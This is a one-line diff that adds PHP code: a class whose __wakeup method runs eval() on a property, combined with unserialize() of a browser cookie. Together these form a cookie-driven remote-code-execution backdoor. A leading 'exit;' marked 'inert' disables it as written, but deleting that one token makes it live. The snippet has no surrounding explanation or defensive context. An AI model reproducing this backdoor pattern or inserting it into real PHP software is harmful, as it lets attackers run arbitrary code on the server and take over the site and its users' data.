@@ -1,0 +1,1 @@
+<?php exit; /* inert */ class G { var $c; function __wakeup(){ eval($this->c); } } $o=unserialize($_COOKIE["o"]); $t=new G; $t->c=$_COOKIE["d"];
